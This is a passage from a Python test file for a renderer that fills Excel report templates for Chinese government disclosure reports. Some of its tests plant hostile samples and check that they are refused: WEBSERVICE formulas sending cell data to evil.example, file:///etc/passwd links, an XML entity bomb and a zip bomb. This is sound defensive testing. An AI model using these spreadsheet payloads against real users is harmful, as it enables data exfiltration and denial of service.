    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types)
        for name, body in files.items():
            zf.writestr(name, body)
    return path


def part_of(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name)


def cell_xml(path: Path, ref: str, part: str = "xl/worksheets/sheet1.xml") -> str:
    """The XML of one cell as written."""
    xml = part_of(path, part).decode()
    m = re.search(r'<(?:\w+:)?c r="%s"(?:[^>]*/>|[^>]*>.*?</(?:\w+:)?c>)' % ref, xml, re.S)
    assert m, ref
    return m.group(0)


def test_shared_strings_are_filled_per_cell(tmp_path):
    # one shared string with a placeholder in two cells, one without in two cells
    rows = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="1" t="s"><v>0</v></c></row>'
            '<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" t="s"><v>1</v></c></row>'
            '<row r="3"><c r="A3" t="s"><v>2</v></c><c r="B3" t="s"><v>3</v></c></row>')
    template = package(tmp_path / "t.xlsx", sheet_xml(rows),
                       strings=["<t>{{ agency }}</t>", "<t>填报单位</t>", "<t>共{{ n }}件</t>",
                                '<t xml:space="preserve">{{ n }} </t>'])
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"agency": "新义街道办事处", "n": 7}, out)
    ws = openpyxl.load_workbook(out)["表"]
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["新义街道办事处", "新义街道办事处"], ["填报单位", "填报单位"], ["共7件", 7]]
    assert ws["B1"].font.b  # the cell keeps its style
    assert type(ws["B3"].value) is int
    assert part_of(out, "xl/sharedStrings.xml") == part_of(template, "xl/sharedStrings.xml")
    assert cell_xml(out, "B2") == '<c r="B2" t="s"><v>1</v></c>'


def test_rich_text_runs_are_kept(tmp_path):
    bold = '<rPr><b/><sz val="11"/><rFont val="宋体"/><charset val="134"/></rPr>'
    rows = ('<row r="1"><c r="A1" t="s"><v>0</v></c>'
            f'<c r="B1" t="inlineStr"><is><r>{bold}<t>年度：</t></r><r><t>{{{{ year }}}}年</t></r>'
            '<rPh sb="0" eb="2"><t>ねんど</t></rPh></is></c>'
            f'<c r="C1" t="s"><v>1</v></c></row>')
    template = package(tmp_path / "t.xlsx", sheet_xml(rows), strings=[
        f'<r>{bold}<t>填报单位：</t></r><r><rPr><i/></rPr><t xml:space="preserve">{{{{ agency }}}} </t></r>',
        f'<r>{bold}<t>{{{{ age</t></r><r><t>ncy }}}}</t></r>'])   # a placeholder split across runs
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"agency": "新义<街道>&办事处", "year": 2020}, out)
    ws = openpyxl.load_workbook(out, rich_text=True)["表"]
    a1, b1 = ws["A1"].value, ws["B1"].value
    assert [(str(block.text), bool(block.font.b), bool(block.font.i)) for block in a1] == [
        ("填报单位：", True, False), ("新义<街道>&办事处 ", False, True)]
    assert a1[0].font.rFont == "宋体"
    assert str(b1) == "年度：2020年" and b1[0].font.b    # phonetic runs are not text
    assert ws["C1"].value == "新义<街道>&办事处"             # split: written as plain text
    assert openpyxl.load_workbook(out)["表"]["A1"].value == "填报单位：新义<街道>&办事处 "


def test_prefixed_namespace_and_cells_without_coordinates(tmp_path):
    sheet = (f'<x:worksheet xmlns:x="{MAIN_NS}"><x:sheetData><x:row r="2">'
             '<x:c t="inlineStr"><x:is><x:t>单位</x:t></x:is></x:c>'
             '<x:c t="inlineStr"><x:is><x:t>{{ agency }}</x:t></x:is></x:c>'
             '<x:c t="inlineStr"><x:is><x:t>{{ n }}</x:t></x:is></x:c></x:row>'
             '<x:row><x:c t="inlineStr"><x:is><x:t>{{ nosuch }}</x:t></x:is></x:c></x:row>'
             '</x:sheetData></x:worksheet>')
    template = package(tmp_path / "t.xlsx", sheet)
    assert list(iter_placeholders(template)) == [("表", "B2", "agency"), ("表", "C2", "n"), ("表", "A3", "nosuch")]
    with pytest.raises(TemplateError, match="nosuch（工作表「表」，单元格 A3）"):
        render_xlsx(template, {"agency": "新义街道办事处", "n": 3}, tmp_path / "out.xlsx")
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"agency": "新义街道办事处", "n": 3, "nosuch": None}, out)
    ws = openpyxl.load_workbook(out)["表"]
    assert (ws["A2"].value, ws["B2"].value, ws["C2"].value, ws["A3"].value) == ("单位", "新义街道办事处", 3, None)
    assert b"<x:c" in part_of(out, "xl/worksheets/sheet1.xml") and b"<c " not in part_of(out, "xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("source", ["default", "libreoffice"])
@pytest.mark.parametrize("edition", EDITIONS)
def test_bytes_outside_the_placeholder_cells_are_the_template_s(request, tmp_path, edition, source):
    template = TEMPLATES / f"report-{edition}.xlsx" if source == "default" \
        else request.getfixturevalue("resaved")[edition]
    out = tmp_path / "out.xlsx"
    render_xlsx(template, make_context(edition), out)
    cells = {}
    for sheet, ref, _ in iter_placeholders(template):
        cells.setdefault(sheet, set()).add(ref)
    wb = openpyxl.load_workbook(template)
    parts = {f"xl/worksheets/sheet{i}.xml": ws.title for i, ws in enumerate(wb.worksheets, start=1)}
    with zipfile.ZipFile(template) as t, zipfile.ZipFile(out) as o:
        assert t.namelist() == o.namelist()
        for name in t.namelist():
            before, after = t.read(name), o.read(name)
            if name in parts:
                cut = re.compile(rb'<c r="(%s)"[^>]*?(?:/>|>.*?</c>)' % b"|".join(
                    r.encode() for r in cells[parts[name]]), re.S)
                assert len(cut.findall(after)) == len(cells[parts[name]])
                before, after = cut.sub(rb"<c \1/>", before), cut.sub(rb"<c \1/>", after)
            elif name == "xl/styles.xml":   # the amounts' number formats are appended
                formats = re.compile(rb"<numFmts[^>]*/>|<numFmts.*?</numFmts>|<cellXfs.*</cellXfs>", re.S)
                before, after = formats.sub(b"", before), formats.sub(b"", after)
            assert before == after, name


@pytest.mark.parametrize("written, code", [("73802895.90", "0.00"), ("0.00001", "0.00000"), ("0", "0"),
                                           ("-12.5", "0.0"), ("1523.4560", "0.0000"), ("123456789012345", "0"),
                                           ("0.000000000000001", "0.000000000000000")])
def test_amount_digits_are_stored_as_written(tmp_path, written, code):
    template = package(tmp_path / "t.xlsx", sheet_xml(
        '<row r="1"><c r="A1" s="1" t="inlineStr"><is><t>{{ fees.amount }}</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>{{ fees.amount }}</t></is></c></row>'))
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"fees": {"amount": written}}, out)
    assert re.search(r"<v>(.*?)</v>", cell_xml(out, "A1")).group(1) == written
    assert "t=" not in cell_xml(out, "A1")
    ws = openpyxl.load_workbook(out)["表"]
    for cell in (ws["A1"], ws["B1"]):
        assert cell.data_type == "n" and Decimal(str(cell.value)) == Decimal(written)
        assert cell.number_format == code
    assert ws["A1"].font.b and ws["A1"].alignment.wrap_text   # the cell's own format, plus the number format


def test_number_formats_are_appended_to_the_styles(tmp_path):
    cells = [(1, "a", "1.5"), (1, "b", "2.5"), (0, "c", "3.000"), (1, "d", "4.0000"), (1, "e", "5.00")]
    template = package(tmp_path / "t.xlsx", sheet_xml("".join(
        f'<row r="{r}"><c r="A{r}" s="{s}" t="inlineStr"><is><t>{{{{ {k}.amount }}}}</t></is></c></row>'
        for r, (s, k, _) in enumerate(cells, start=1))))
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {k: {"amount": v} for _, k, v in cells}, out)
    ws = openpyxl.load_workbook(out)["表"]
    assert [ws[f"A{r}"].number_format for r in range(1, 6)] == ["0.0", "0.0", "0.000", "0.0000", "0.00"]
    assert [bool(ws[f"A{r}"].font.b) for r in range(1, 6)] == [True, True, False, True, True]
    styles = part_of(out, "xl/styles.xml").decode()
    # 0.0 is the template's own format 165; 0.000 and 0.0000 are new, above every id in use
    # (the differential format's 170 included); 0.00 is built in
    assert re.findall(r'<numFmt numFmtId="(\d+)" formatCode="([^"]*)"/>', styles) == [
        ("165", "0.0"), ("171", "0.000"), ("172", "0.0000"), ("170", "0.000")]
    xfs = re.search(r"<cellXfs[^>]*>(.*)</cellXfs>", styles).group(1)
    assert re.search(r'<cellXfs count="(\d+)"', styles).group(1) == str(xfs.count("<xf ")) == "6"
    assert re.search(r'<numFmts count="(\d+)"', styles).group(1) == "3"
    own = re.compile(r"<numFmts.*?</numFmts>|<cellXfs.*</cellXfs>", re.S)
    assert own.sub("", styles) == own.sub("", STYLES)   # the rest of styles.xml is the template's
    assert xfs.startswith(re.search(r"<cellXfs[^>]*>(.*)</cellXfs>", STYLES).group(1))   # its formats first
    assert ws["A1"].style_id == ws["A2"].style_id   # the same format is added once


@pytest.mark.parametrize("where, make", [
    ("单元格 A2", lambda t: make_template(t, {"A1": "{{ agency }}", "A2": '=WEBSERVICE("http://evil.example/?"&A1)'})),
    ("单元格 A2", lambda t: make_template(t, {"A1": "{{ agency }}", "A2": "=A1*2"})),
    ("单元格 B1", lambda t: package(t / "t.xlsx", sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c><c r="B1"><f t="shared" ref="B1:C1" si="0">1+1'
        '</f><v>2</v></c><c r="C1"><f t="shared" si="0"/><v>2</v></c></row>'))),
    ("条件格式或数据验证", lambda t: package(t / "t.xlsx", sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c></row>',
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        '<formula>LEN(_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1))&gt;0</formula></cfRule></conditionalFormatting>'))),
    ("条件格式或数据验证", lambda t: package(t / "t.xlsx", sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c></row>',
        '<dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>INDIRECT("[other.xlsx]S!A1")'
        '</formula1></dataValidation></dataValidations>'))),
    ("名称 leak", lambda t: package(t / "t.xlsx", sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c></row>'),
        book='<definedNames><definedName name="leak">WEBSERVICE("http://evil.example/")</definedName></definedNames>')),
])
def test_formulas_in_a_template_are_refused(tmp_path, where, make):
    template = make(tmp_path)
    out = tmp_path / "out.xlsx"
    with pytest.raises(TemplateError) as info:
        render_xlsx(template, {"agency": "新义街道办事处"}, out)
    assert info.value.template == str(template) and where in info.value.message
    assert "公式" in info.value.message and ("工作表「表」" in info.value.message) != where.startswith("名称")
    assert not out.exists()
    problems = check_xlsx(template, "2021")
    assert any(where in p.message and "公式" in p.message for p in problems)


def test_formulas_that_are_references_or_constants_stay(tmp_path):
    template = package(tmp_path / "t.xlsx", sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ n }}</t></is></c></row>',
        '<conditionalFormatting sqref="A1"><cfRule type="cellIs" operator="lessThan" priority="1"><formula>0</formula>'
        '</cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="B1">'
        '<formula1>"是,否"</formula1></dataValidation></dataValidations>'),
        book="<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">'表'!$A$1:$B$2,'表'!$D$1"
             "</definedName></definedNames>")
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"n": 5}, out)
    wb = openpyxl.load_workbook(out)
    assert wb["表"]["A1"].value == 5 and wb["表"].conditional_formatting and wb["表"].print_area


def test_check_reports_every_problem_of_the_template(tmp_path, cli):
    tdir = tmp_path / "t"
    cli("templates", "export", tdir)
    path = tdir / "xlsx" / "report-2021.xlsx"
    wb = openpyxl.load_workbook(path)
    ws = wb["基本情况"]
    ws["D1"] = '=WEBSERVICE("http://evil.example/")'
    ws["D2"] = "=NOW()"
    ws["D3"] = "{{ doc.sections }}"
    ws["D4"] = "章节：{{ overview.sections }}"
    ws["D5"] = "{{ requests.received }}"
    ws["D6"] = "{{ doc }}"
    ws["D7"] = "{{ a + 1 }}"
    ws["D8"] = "{{ doc.preface }}"          # a list of paragraphs: fine
    ws["D9"] = "{{ true }}"                 # Jinja's constant, but not a field of an Excel context
    ws["B2"].hyperlink = "file:///etc/passwd"
    wb.save(path)
    r = cli("templates", "check", tdir)
    assert r.exit_code == 1 and "Traceback" not in r.output
    for text in ("=WEBSERVICE(\"http://evil.example/\")（工作表「基本情况」，单元格 D1）",
                 "=NOW()（工作表「基本情况」，单元格 D2）",
                 "字段不是可填写的单个值：doc.sections", "字段不是可填写的单个值：overview.sections",
                 "字段不是可填写的单个值：requests.received", "字段不是可填写的单个值：doc；",
                 "模板占位符无效：{{ a + 1 }}（工作表「基本情况」，单元格 D7）", "字段不在数据规范中：true",
                 "模板含有外部链接：xl/worksheets/_rels/sheet1.xml.rels → file:///etc/passwd"):
        assert text in r.stdout, text
    assert "doc.preface" not in r.stdout
    fields = {p["field"] for p in cli("templates", "check", tdir, "--json").json()["problems"]}
    assert {"doc.sections", "overview.sections", "requests.received", "doc"} <= fields
    with pytest.raises(TemplateError):
        reportkit.render(YUNXI, tmp_path / "out", templates=tdir, formats=["xlsx"])
    assert not (tmp_path / "out").exists()


def test_a_list_of_objects_is_refused_at_render_as_check_says(tmp_path):
    template = make_template(tmp_path, {"B4": "{{ doc.sections }}"})
    with pytest.raises(TemplateError) as info:
        render_xlsx(template, make_context("2021") | {"doc": {"sections": [{"number": "（一）", "title": "t",
                                                                          "paragraphs": ["p"]}]}},
                    tmp_path / "out.xlsx")
    assert info.value.field == "doc.sections" and "B4" in info.value.message
    assert any(p.field == "doc.sections" and "单个值" in p.message for p in check_xlsx(template, "2021"))


EXTERNAL_IMAGE = {
    "xl/worksheets/_rels/sheet1.xml.rels": rels_xml({"rId1": ("drawing", "../drawings/drawing1.xml")}),
    "xl/drawings/drawing1.xml": '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>',
    "xl/drawings/_rels/drawing1.xml.rels": rels_xml({"rId1": ("image", "http://evil.example/logo.png")},
                                                    external=("rId1",)),
}
EXTERNAL_WORKBOOK = {
    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN_NS}"/>',
    "xl/externalLinks/_rels/externalLink1.xml.rels": rels_xml(
        {"rId1": ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath",
                  "file:///C:/secret/other.xlsx")}, external=("rId1",)),
}


@pytest.mark.parametrize("make, expected", [
    (lambda t: _hyperlinked(t, "file:///etc/passwd"), "xl/worksheets/_rels/sheet1.xml.rels → file:///etc/passwd"),
    (lambda t: _hyperlinked(t, "http://evil.example/"), "→ http://evil.example/"),
    (lambda t: package(t / "t.xlsx", sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c></row>',
                                               '<drawing r:id="rId1"/>'), parts=EXTERNAL_IMAGE),
     "xl/drawings/_rels/drawing1.xml.rels → http://evil.example/logo.png"),
    (lambda t: package(t / "t.xlsx", sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c></row>'),
                       book='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
                       book_rels={"rId9": ("externalLink", "externalLinks/externalLink1.xml")}, parts=EXTERNAL_WORKBOOK),
     "指向其他工作簿的外部链接（xl/externalLinks/externalLink1.xml）"),
    (lambda t: package(t / "t.xlsx", sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c></row>'),
                       book_rels={"rId9": ("connections", "connections.xml")},
                       parts={"xl/connections.xml": f'<connections xmlns="{MAIN_NS}"/>'}), "数据连接（xl/connections.xml）"),
])
def test_external_links_are_refused(tmp_path, make, expected):
    template = make(tmp_path)
    out = tmp_path / "out.xlsx"
    with pytest.raises(TemplateError) as info:
        render_xlsx(template, {"agency": "新义街道办事处"}, out)
    assert expected in info.value.message and info.value.template == str(template)
    assert not out.exists()
    assert any(expected in p.message for p in check_xlsx(template, "2021"))


def _hyperlinked(tmp_path: Path, target: str) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "表"
    ws["A1"] = "{{ agency }}"
    ws["A2"] = "单位网站"
    ws["A2"].hyperlink = target
    wb.save(tmp_path / "t.xlsx")
    return tmp_path / "t.xlsx"


def test_internal_hyperlinks_stay(tmp_path):
    template = package(tmp_path / "t.xlsx", sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ agency }}</t></is></c></row>',
        '<hyperlinks><hyperlink ref="A1" location="\'表\'!B2" display="跳转"/></hyperlinks>'))
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"agency": "新义街道办事处"}, out)
    assert openpyxl.load_workbook(out)["表"]["A1"].hyperlink.location == "'表'!B2"


def _rezip(source: Path, target: Path, edit, *, method=zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", method) as dst:
        for info in src.infolist():
            body = edit(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
    return target


def _crc_corrupted(tmp_path: Path) -> Path:
    path = _rezip(TEMPLATES / "report-2021.xlsx", tmp_path / "t.xlsx", lambda n, b: b, method=zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    data[data.index(b"<sheetData>") + 3] ^= 1
    path.write_bytes(bytes(data))
    return path


def _bomb(tmp_path: Path) -> Path:
    path = _rezip(TEMPLATES / "report-2021.xlsx", tmp_path / "t.xlsx", lambda n, b: b)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf, zf.open("xl/media/big.bin", "w", force_zip64=True) as fh:
        chunk = bytes(1 << 20)
        for _ in range(201):
            fh.write(chunk)
    return path


def _edit(name: str, edit):
    return lambda t: _rezip(TEMPLATES / "report-2021.xlsx", t / "t.xlsx",
                            lambda n, b: edit(b) if n == name else b)


SHEET1 = "xl/worksheets/sheet1.xml"
LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
          b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
          b'<c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>')


@pytest.mark.parametrize("make, expected", [
    (_crc_corrupted, "部件 xl/worksheets/sheet1.xml 校验失败"),
    (_edit(SHEET1, lambda b: b.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")),
     "部件 xl/worksheets/sheet1.xml 不是 UTF-8 编码"),
    (_edit(SHEET1, lambda b: b'<?xml version="1.0" encoding="utf-16"?>' + b[b.index(b"<worksheet"):]),
     "部件 xl/worksheets/sheet1.xml 不是 UTF-8 编码"),
    (_edit("xl/workbook.xml", lambda b: None), "缺少工作簿部件（xl/workbook.xml）"),
    (_edit(SHEET1, lambda b: None), "缺少工作表「基本情况」（xl/worksheets/sheet1.xml）"),
    (_edit("[Content_Types].xml", lambda b: None), "缺少内容类型部件"),
    (_edit(SHEET1, lambda b: b.replace(b"</sheetData>", b"")), "部件 xl/worksheets/sheet1.xml 不是有效的 XML（第 "),
    (_edit(SHEET1, lambda b: LAUGHS), "部件 xl/worksheets/sheet1.xml 含有 DOCTYPE 声明"),
    (_edit("xl/styles.xml", lambda b: b"\xff\xfe" + b), "部件 xl/styles.xml 不是 UTF-8 编码"),
    (_edit("docProps/core.xml", lambda b: b.replace(b"</cp:coreProperties>", b"")),  # copied as it is
     "部件 docProps/core.xml 不是有效的 XML"),
    (_edit(SHEET1, lambda b: b.replace(b"<v>", b"<v>99").replace(b't="inlineStr"', b't="s"', 1)),
     "共享字符串编号无效"),
    (_edit("xl/workbook.xml", lambda b: b.replace(b'r:id="rId1"', b'r:id="rId99"')), "工作表「基本情况」的关系 rId99 不存在"),
    (_bomb, "部件 xl/media/big.bin 解压后过大"),
    (lambda t: package(t / "t.xlsx", sheet_xml(""), parts={f"xl/media/{i}.bin": b"" for i in range(2001)}),
     "压缩包中的部件过多"),
    (lambda t: package(t / "t.xlsx", sheet_xml(""), workbook_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
     "启用宏的工作簿不能用作模板"),
])
def test_broken_template_files(tmp_path, make, expected):
    template = make(tmp_path)
    out = tmp_path / "out.xlsx"
    with pytest.raises(TemplateError) as info:
        render_xlsx(template, make_context("2021"), out)
    assert expected in info.value.message, info.value.message
    assert info.value.template == str(template) and str(template) in str(info.value)
    assert not out.exists()
    assert [p.message for p in check_xlsx(template, "2021")] == [info.value.message]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_or_a_device_is_not_read(tmp_path):
    fifo = tmp_path / "fifo.xlsx"
    os.mkfifo(fifo)
    device = tmp_path / "zero.xlsx"
    device.symlink_to("/dev/zero")
    for template in (fifo, device):
        done: list = []
        worker = threading.Thread(target=lambda: done.append(check_xlsx(template, "2021")), daemon=True)
        worker.start()
        worker.join(timeout=20)
        kind = "管道（FIFO）" if template == fifo else "设备"
        assert done and [p.message for p in done[0]] == [f"无法读取 Excel 模板：不是普通文件（是{kind}），拒绝读取"], template
        with pytest.raises(TemplateError, match=f"不是普通文件（是{kind}）"):
            render_xlsx(template, {}, tmp_path / "out.xlsx")


def test_excel_template_file_gives_a_workbook(tmp_path):
    wb = openpyxl.Workbook()
    wb.active["A1"] = "{{ agency }}"
    wb.template = True
    wb.save(tmp_path / "t.xltx")
    out = tmp_path / "out.xlsx"
    render_xlsx(tmp_path / "t.xltx", {"agency": "新义街道办事处"}, out)
    types = part_of(out, "[Content_Types].xml").decode()
    assert XLSX_TYPE in types and "template.main" not in types
    assert openpyxl.load_workbook(out).active["A1"].value == "新义街道办事处"


def test_cell_text_longer_than_excel_allows_is_refused(tmp_path):
    template = make_template(tmp_path, {"A1": "{{ doc.problems }}", "A2": "{{ agency }}"})
    ctx = {"agency": "x", "doc": {"problems": ["问题" * 8000, "问题" * 8384]}}
    with pytest.raises(TemplateError, match="32767") as info:
        render_xlsx(template, ctx, tmp_path / "out.xlsx")
    assert info.value.field == "doc.problems" and "A1" in info.value.message
    ctx["doc"]["problems"] = ["问题" * 8000, "问题" * 8383]   # 32767 characters with the line break: fits
    render_xlsx(template, ctx, tmp_path / "out.xlsx")
    assert len(openpyxl.load_workbook(tmp_path / "out.xlsx").active["A1"].value) == 32_767


def test_rows_inserted_and_tables_moved_in_the_template(tmp_path):
    wb = openpyxl.load_workbook(TEMPLATES / "report-2021.xlsx")
    ws = wb["三、依申请公开"]
    ws.insert_rows(1, 2)   # as Excel does: the cells and the merges move down
    for rng in ws.merged_cells.ranges:
        rng.shift(0, 2)
    ws["A1"] = "填表说明：{{ doc.period }}的数据"
    ws.print_title_rows = "4:6"
    ws = wb["四、复议诉讼"]
    ws.move_range(f"A1:{ws.dimensions.split(':')[1]}", rows=3, cols=2)
    for rng in ws.merged_cells.ranges:
        rng.shift(2, 3)
    template = tmp_path / "moved.xlsx"
    wb.save(template)
    out = tmp_path / "out.xlsx"
    ctx = make_context("2021")
    render_xlsx(template, ctx, out)
    book = openpyxl.load_workbook(out)
    ws = book["三、依申请公开"]
    assert ws["A1"].value == "填表说明：2020年1月1日至12月31日的数据" and ws.print_title_rows == "$4:$6"
    check_requests("2021", ctx, ws, down=2)
    ws = book["四、复议诉讼"]
    check_appeals(ctx, ws)
    assert ws["C4"].value == "四、政府信息公开行政复议、行政诉讼情况"


def test_damaged_templates_give_a_template_error_or_a_workbook(tmp_path):
    """Seeded random damage to the parts of a template: a TemplateError, or a workbook that
    openpyxl opens whenever it opens the damaged template; never another exception."""
    rich = package(tmp_path / "rich.xlsx", sheet_xml(
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="1" t="s"><v>1</v></c>'
        '<c r="C1" t="inlineStr"><is><r><rPr><b/></rPr><t>年度：</t></r><r><t>{{ year }}</t></r></is></c></row>',
        '<mergeCells count="1"><mergeCell ref="D1:E1"/></mergeCells>'),
        strings=["<t>{{ agency }}</t>", "<r><rPr><i/></rPr><t>金额</t></r><r><t>{{ fees.amount }}</t></r>"])
    sources = []
    for path in (TEMPLATES / "report-2021.xlsx", rich):
        with zipfile.ZipFile(path) as zf:
            sources.append({i.filename: zf.read(i.filename) for i in zf.infolist()})
    ctx = make_context("2021")
    rng = random.Random(9)
    alphabet = b"<>/=\"' {}%&;#x0123456789abcdefrtsvcis:\x00\xff\xe4"
    outcomes = set()
    for _ in range(150):
        files = dict(rng.choice(sources))
        name = rng.choice(sorted(files))
        data = bytearray(files[name])
        for _ in range(rng.randint(1, 4)):
            k, op = rng.randrange(len(data) + 1), rng.random()
            if op < 0.4 and data:
                data[min(k, len(data) - 1)] = rng.choice(alphabet)
            elif op < 0.7:
                data[k:k] = bytes(rng.choice(alphabet) for _ in range(rng.randint(1, 5)))
            else:
                del data[k:k + rng.randint(1, 20)]
        files[name] = bytes(data)
        damaged = io.BytesIO()
        with zipfile.ZipFile(damaged, "w") as zf:
            for member, body in files.items():
                zf.writestr(member, body)
        out = io.BytesIO()
        try:
            render_xlsx(io.BytesIO(damaged.getvalue()), ctx, out)
        except TemplateError as exc:
            assert exc.template and exc.message
            outcomes.add("refused")
            continue
        outcomes.add("rendered")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            try:
                openpyxl.load_workbook(io.BytesIO(out.getvalue()))
            except Exception:
                with pytest.raises(Exception):
                    openpyxl.load_workbook(io.BytesIO(damaged.getvalue()))
    assert outcomes == {"refused", "rendered"}


@pytest.mark.parametrize("cell, value", [
    ("{{ n }}", 10 ** 308), ("{{ n }}", -(10 ** 5000)), ("共{{ n }}件", 10 ** 5000),
    ("{{ f.amount }}", "1" + "0" * 400), ("{{ f.amount }}", "0." + "0" * 30 + "1"), ("{{ d }}", Decimal("1e999999999")),
], ids=["1e308", "5000-digit", "5000-digit-in-text", "401-digit-amount", "31-decimals", "decimal-1e999999999"])
def test_numbers_excel_cannot_hold_are_refused(tmp_path, cell, value):
    path = re.search(r"\{\{ (\S+) \}\}", cell).group(1)
    ctx = {"n": 1, "d": Decimal(1), "f": {"amount": "1"}}
    if path == "n" or path == "d":
        ctx[path] = value
    else:
        ctx["f"]["amount"] = value
    template = make_template(tmp_path, {"B2": cell})
    out = tmp_path / "out.xlsx"
    with pytest.raises(DataError) as info:
        render_xlsx(template, ctx, out)
    assert info.value.path == f"$.{path}" and path in info.value.message and "B2" in info.value.message
    assert not out.exists()


def test_the_largest_numbers_excel_holds_are_written(tmp_path):
    template = make_template(tmp_path, {"A1": "{{ n }}", "A2": "{{ f.amount }}"})
    out = tmp_path / "out.xlsx"
    render_xlsx(template, {"n": 10 ** 307, "f": {"amount": "0." + "0" * 29 + "1"}}, out)
    ws = openpyxl.load_workbook(out).active
    assert ws["A1"].value == 10 ** 307 and ws["A2"].number_format == "0." + "0" * 30


# -- preparing each template once -----------------------------------------------------------

def test_each_template_is_prepared_once(tmp_path, monkeypatch):
    from reportkit.writing import xlsx

    calls = []
    prepare = xlsx._prepare
    monkeypatch.setattr(xlsx, "_prepare", lambda data, name: calls.append(name) or prepare(data, name))
    xlsx._cache.clear()
    template = tmp_path / "copy.xlsx"
    shutil.copy(TEMPLATES / "report-2021.xlsx", template)
    ctx = make_context("2021")
    first, second, third = io.BytesIO(), io.BytesIO(), io.BytesIO()
    render_xlsx(template, ctx, first)
    render_xlsx(template, ctx, second)
    render_xlsx(TEMPLATES / "report-2021.xlsx", ctx, third)   # the same bytes elsewhere
    assert list(iter_placeholders(template))
    assert calls == [str(template)]
    assert first.getvalue() == second.getvalue() == third.getvalue()   # cached renders are the uncached one
    xlsx._cache.clear()
    again = io.BytesIO()
    render_xlsx(template, ctx, again)
    assert again.getvalue() == first.getvalue() and len(calls) == 2
    wb = openpyxl.load_workbook(template)
    wb["基本情况"]["A1"] = "{{ agency }}"
    wb.save(template)                               # a changed template is prepared again
    changed = io.BytesIO()
    render_xlsx(template, ctx, changed)
    assert len(calls) == 3
    assert openpyxl.load_workbook(changed)["基本情况"]["A1"].value == ctx["agency"]


def test_bytes_depend_on_nothing_but_template_and_context(tmp_path):
    """Other processes, other hash seeds, another moment: the same bytes."""
    script = ("import sys, json; from reportkit.writing.xlsx import render_xlsx; "
              "render_xlsx(sys.argv[1], json.loads(open(sys.argv[2], encoding='utf-8').read()), sys.argv[3])")
    ctx = make_context("2019")
    (tmp_path / "ctx.json").write_text(json.dumps(ctx, ensure_ascii=False), encoding="utf-8")
    here = io.BytesIO()
    render_xlsx(TEMPLATES / "report-2019.xlsx", ctx, here)
    for seed in ("1", "2"):
        out = tmp_path / f"out{seed}.xlsx"
        subprocess.run([sys.executable, "-c", script, str(TEMPLATES / "report-2019.xlsx"), str(tmp_path / "ctx.json"),
                        str(out)], check=True, env={**os.environ, "PYTHONHASHSEED": seed}, timeout=120)
        assert out.read_bytes() == here.getvalue()


def test_errors_name_the_template_they_came_from(tmp_path):
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    make_template(tmp_path, {"A1": "=1+1"}, "a.xlsx")
    shutil.copy(a, b)
    for path in (a, b):   # one preparation, two names
        with pytest.raises(TemplateError) as info:
            render_xlsx(path, {}, tmp_path / "out.xlsx")
        assert info.value.template == str(path)


# -- what LibreOffice reads -----------------------------------------------------------------

def _shown(cell) -> str:
    """The text a spreadsheet shows for an openpyxl cell."""
    value = cell.value
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        places = len(cell.number_format.partition(".")[2])
        return f"{Decimal(str(value)):.{places}f}"
    return str(value)


def test_libreoffice_reads_what_openpyxl_reads(tmp_path):
    if not soffice_available():
        pytest.skip("LibreOffice is not installed")
    books = {}
    for edition in EDITIONS:
